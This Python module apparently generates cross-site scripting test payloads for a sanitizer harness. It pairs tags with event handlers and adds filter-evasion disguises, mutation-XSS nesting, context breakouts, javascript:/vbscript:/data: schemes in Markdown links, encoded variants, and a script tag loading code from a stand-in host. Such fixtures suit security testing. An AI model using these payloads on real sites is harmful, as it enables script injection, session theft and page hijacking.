"""Ways to write markup so that a browser runs it: tags, events, disguises, links, combined; copied from nowhere."""

import html
from itertools import product
from urllib.parse import quote

CODE = "ran(1)"
TAGS = [
    *("img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "marquee", "iframe"),
    "a href=#",
]
EVENTS = [
    *("onerror", "onload", "onfocus", "onmouseover", "onclick", "ontoggle", "onstart", "onpointerenter"),
    "onanimationstart",
]
SCHEMES = [
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "java&#10;script:", "&#106;avascript:", " javascript:", "vbscript:"),
    "data:text/html,<script>ran(1)</script>",
]
# How a tag may be written so that a filter takes it for something else.
DISGUISES = [
    *("<{0}>", "<{0}/>", "<{0}//", "< {0}>", "<\t{0}>", "<\0{0}>", "<{0}\n>", "&lt;{0}&gt;", "&#60;{0}&#62;", "\\<{0}\\>"),
    *("`<{0}>`", "<!--><{0}>-->", "<![CDATA[<{0}>]]>", "<scr<x>ipt><{0}>", '"><{0}>', "'><{0}>", "</textarea><{0}>"),
    *("</title><{0}>", "</script><{0}>", "--><{0}>", "{{{{ '<{0}>' }}}}", "<template><{0}></template>"),
    "<math><mtext><table><mglyph><style><!--</style><{0}>",
    '<noscript><p title="</noscript><{0}>">',
    "<svg><foreignObject><{0}></foreignObject></svg>",
]
MARKDOWN = [
    *("[a]({0}ran(1))", "![a]({0}ran(1))", "[a][b]\n\n[b]: {0}ran(1)", "<{0}ran(1)>", "[a](<{0}ran(1)>)"),
    *("[a](x \"'onclick='ran(1)\")", "![a](x){{onerror=ran(1)}}", '[a](https://example.org/"onmouseover="ran(1))'),
    'https://example.org/"onmouseover=ran(1)//',
]
SCRIPTS = [
    *("script>ran(1)</script", "script src=//canary.example/x.js></script"),
    "iframe srcdoc='<script>ran(1)</script>'",
]
# What stands for a hole in a page that is made once for all (core/kept_pages.py, contributions/threads.py).
HOLES = [
    *("<!--foot 1-->", "token-of-the-reader", 'name="submission_key" value="x"'),
    'name="csrfmiddlewaretoken" value="x"',
]
# What runs wherever it is taken as it is: a harness that does not see these sees nothing.
CONTROLS = [
    *("<img src=x onerror=ran(1)>", "<script>ran(1)</script>", "<p onmouseover=ran(1)>a</p>"),
    "<a href='javascript:ran(1)'>a</a>",
]


def payloads():
    """Every payload, each once: a list of str."""
    tags = [f"{tag} {event}={CODE}" for tag, event in product(TAGS, EVENTS)] + SCRIPTS
    plain = [f"<{tag}>" for tag in tags]
    disguised = [disguise.format(tag) for disguise, tag in product(DISGUISES, tags[:: len(EVENTS) + 1] + SCRIPTS)]
    links = [shape.format(scheme) for shape, scheme in product(MARKDOWN, SCHEMES)]
    encoded = [quote(tag) for tag in plain[::9]] + [html.escape(tag) for tag in plain[::9]]
    return [*dict.fromkeys([*plain, *disguised, *links, *encoded, *HOLES])]
